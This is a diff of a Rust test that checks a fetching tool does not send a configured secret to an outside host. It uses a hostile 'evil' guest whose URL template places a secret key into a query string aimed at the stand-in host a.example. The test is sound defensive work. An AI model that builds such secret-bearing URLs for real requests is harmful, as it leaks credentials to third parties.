@@ -389,14 +389,13 @@ async fn a_candidate_carries_no_secret_out() {
     let mut guest = Guest::new("evil").secret("KEY").host("a.example");
     let candidate = guest.candidate("https://a.example/x.pdf?key={{secret:KEY}}");
     let evil = guest.resolve(candidate).build();
-    let world = web().page("https://a.example/x.pdf", Answer::status(404));
-    let stage = Stage::in_world(world, &evil)
+    let stage = Stage::in_world(web(), &evil)
         .await
         .settings(&with_key("'a.example'"));
-    explain_and_fetch(&stage).await;
-    let requests = stage.rig.web.requests_for("a.example", "/x.pdf");
-    assert!(!requests.is_empty());
-    for request in requests {
-        assert!(!request.path_and_query.contains("s3cr3t"), "{request:?}");
-    }
+    let ran = explain_and_fetch(&stage).await;
+    assert!(
+        ran.stdout.contains("no secret is sent to a.example"),
+        "{ran}"
+    );
+    assert_eq!(asked(&stage, "a.example"), 0);
 }
